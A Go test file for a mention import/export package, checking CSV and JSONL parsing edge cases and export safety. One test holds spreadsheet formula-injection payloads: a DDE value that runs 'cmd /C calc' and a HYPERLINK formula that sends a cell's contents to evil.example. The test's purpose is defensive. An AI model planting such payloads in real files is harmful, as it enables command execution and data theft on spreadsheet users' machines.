package mentionio_test

import (
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/earshot/earshot/internal/mentionio"
	"github.com/earshot/earshot/internal/model"
)

// A stray quote at the start of one comment must not swallow the rows after it.
func TestCSVStrayQuoteIsARowError(t *testing.T) {
	in := "id,text,published_at\n" +
		"r1,fine,2026-11-01\n" +
		"r2,\"Best\" phone ever,2026-11-02\n" +
		"r3,also fine,2026-11-03\n" +
		"r4,\"quoted, fine\",2026-11-04\n" +
		"r5,last,2026-11-05\n"
	res := readAll(t, strings.NewReader(in), mentionio.ReadOptions{Format: mentionio.CSV})
	var ids []string
	for _, r := range res.records {
		ids = append(ids, r.Mention.ID)
	}
	t.Logf("records %v, row errors %v", ids, res.errs)
	if len(res.records)+len(res.errs) != 5 {
		for _, r := range res.records {
			t.Logf("  %s: text=%q", r.Mention.ID, r.Mention.Text)
		}
		t.Fatalf("5 data rows in, got %d records and %d row errors: rows silently lost", len(res.records), len(res.errs))
	}
}

// Cells that Excel evaluates as formulas must be neutralised in a CSV export.
func TestCSVExportCellsAreNotFormulas(t *testing.T) {
	var b bytes.Buffer
	w, _ := mentionio.NewWriter(&b, mentionio.CSV)
	m := model.Mention{ID: "x1", Source: "reviews", Author: "@SUM(1+1)*cmd|' /C calc'!A0",
		Text: `=HYPERLINK("http://evil.example/?"&A2,"Click for refund")`, PublishedAt: time.Date(2026, 11, 23, 0, 0, 0, 0, time.UTC)}
	if err := w.Write(&m); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	recs, _ := csv.NewReader(&b).ReadAll()
	for i, cell := range recs[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("column %s = %q: starts with %q, Excel runs it as a formula", recs[0][i], cell, cell[0])
		}
	}
}

// A JSONL file saved with a UTF-8 BOM (Notepad, Excel "Unicode text") loses its first row.
func TestJSONLWithBOM(t *testing.T) {
	in := "\ufeff" + `{"id":"a","text":"first","published_at":"2026-11-01"}` + "\n" +
		`{"id":"b","text":"second","published_at":"2026-11-02"}` + "\n"
	res := readAll(t, strings.NewReader(in), mentionio.ReadOptions{Format: mentionio.JSONL})
	for _, e := range res.errs {
		t.Logf("row error: %v", e)
	}
	if len(res.records) != 2 {
		t.Fatalf("got %d records, want 2", len(res.records))
	}
}

// A date with a zone abbreviation (RFC 1123, as in RSS and mail exports)
// would depend on the importing machine's time zone: it is refused, the same
// way on every machine, while an offset or UTC reads the same everywhere.
func TestZoneAbbreviationIsRefusedAnywhere(t *testing.T) {
	ny, err := time.LoadLocation("America/New_York")
	if err != nil {
		t.Skip(err) // no tzdata on this machine: nothing machine-dependent to compare
	}
	read := func(loc *time.Location, date string) result {
		old := time.Local
		time.Local = loc
		defer func() { time.Local = old }()
		return readAll(t, strings.NewReader("text,published_at\nslow delivery,\""+date+"\"\n"), mentionio.ReadOptions{Format: mentionio.CSV})
	}
	for _, loc := range []*time.Location{time.UTC, ny} {
		if res := read(loc, "Mon, 23 Nov 2026 10:00:00 EST"); len(res.records) != 0 || len(res.errs) != 1 || !strings.Contains(res.errs[0].Error(), "ambiguous") {
			t.Errorf("TZ=%s: EST gave %d records, errors %v; want one row error saying the zone is ambiguous", loc, len(res.records), res.errs)
		}
		for _, date := range []string{"Mon, 23 Nov 2026 10:00:00 -0500", "Mon, 23 Nov 2026 15:00:00 GMT"} {
			res := read(loc, date)
			if len(res.records) != 1 || !res.records[0].Mention.PublishedAt.Equal(time.Date(2026, 11, 23, 15, 0, 0, 0, time.UTC)) {
				t.Errorf("TZ=%s: %q = %+v %v, want 15:00 UTC", loc, date, res.records, res.errs)
			}
		}
	}
}

// A compact date (YYYYMMDD) is silently taken as Unix seconds in 1970.
func TestCompactDateIsNotUnixTime(t *testing.T) {
	in := "text,published_at\nslow delivery,20261123\n"
	res := readAll(t, strings.NewReader(in), mentionio.ReadOptions{Format: mentionio.CSV})
	if len(res.records) == 1 {
		t.Fatalf("20261123 accepted as %s", res.records[0].Mention.PublishedAt.Format(time.RFC3339))
	}
}

// Export then re-import of JSONL must give back the same mention.
func TestJSONLRoundTripAlsoSeenIn(t *testing.T) {
	m := model.Mention{ID: "x1", Source: "blog", AlsoSeenIn: []string{"forum"}, Brands: []string{"Acme"}, Text: "great",
		PublishedAt: time.Date(2026, 11, 23, 0, 0, 0, 0, time.UTC)}
	var b bytes.Buffer
	w, _ := mentionio.NewWriter(&b, mentionio.JSONL)
	w.Write(&m)
	w.Flush()
	t.Logf("export: %s", strings.TrimSpace(b.String()))
	res := readAll(t, &b, mentionio.ReadOptions{Format: mentionio.JSONL})
	if got := res.records[0].Mention.AlsoSeenIn; len(got) != 1 {
		t.Fatalf("re-imported AlsoSeenIn = %v, want [forum]", got)
	}
}

// An unclosed quote must not read the rest of a large file into one field:
// a CSV record is bounded like a JSONL line, and the reader says where.
func TestCSVRecordIsBounded(t *testing.T) {
	var b strings.Builder
	b.WriteString("id,text,published_at\nr0,\"oops,2026-11-01\n")
	for b.Len() < 40<<20 {
		b.WriteString("r" + strings.Repeat("x", 200) + ",some review text that is perfectly normal,2026-11-02\n")
	}
	rd, err := mentionio.NewReader(strings.NewReader(b.String()), mentionio.ReadOptions{Format: mentionio.CSV})
	if err != nil {
		t.Fatal(err)
	}
	for {
		rec, err := rd.Next()
		if err == nil {
			if len(rec.Mention.Text) > 16<<20 {
				t.Fatalf("a %d MiB CSV field was read whole", len(rec.Mention.Text)>>20)
			}
			continue
		}
		if err == io.EOF || !strings.Contains(err.Error(), "after line 1: a record longer than 16 MiB") {
			t.Fatalf("Next = %v, want the over-long record reported after the header line", err)
		}
		return
	}
}
